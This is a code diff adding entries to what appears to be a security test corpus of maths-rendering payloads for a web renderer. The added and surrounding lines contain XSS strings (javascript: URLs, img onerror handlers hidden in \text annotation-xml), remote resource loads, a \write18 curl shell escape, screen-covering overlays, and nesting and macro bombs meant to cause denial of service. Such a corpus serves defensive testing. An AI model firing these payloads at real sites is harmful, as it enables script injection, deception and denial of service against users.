@@ -21,6 +21,15 @@ export function mathsAndDiagrams(origin: string): Payload[] {
         raw`$\require{${url}}$ $\input{${url}}$ $\write18{curl ${url}}$`,
       'maths-style': ({ script }) => raw`\[\style{x}{y}\class{z}{w} <script>${script}</script>\]`,
       'maths-round-brackets': ({ url }) => raw`\(\href{${url}}{x}\) and \\(y\\)`,
+      'maths-all-commands': ({ url, script }) =>
+        raw`\(\href{${url}}{x}\) \(\url{javascript:${script}}\) \(\includegraphics{${url}}\) \(\htmlData{x=${url}}{y}\)`,
+      'maths-lines-of-its-own': ({ url }) =>
+        raw`\[${'\n'}\includegraphics[height=9em]{${url}}${'\n'}\]`,
+      'maths-that-covers': () =>
+        raw`$$\color{white}{x}\hspace{-99em}\rule{99em}{99em}\raisebox{99em}{y}\kern-99em z$$`,
+      'maths-deep': () => raw`$$${raw`\sqrt{`.repeat(90)}x${'}'.repeat(90)}$$`,
+      'maths-code-in-text': ({ script }) =>
+        raw`$$\text{<annotation-xml encoding="text/html"><img src=x onerror="${script}">}$$`,
       'maths-macro-bomb': () => raw`$$\def\a{xxxxxxxxxx}\def\b{\a\a\a\a}\def\c{\b\b\b\b}\c\c\c\c$$`,
       'maths-block': ({ script }) => `$$\n<img src=x onerror="${script}">\n\\frac{1}{2}\n$$`,
       'maths-fence': ({ script }) =>
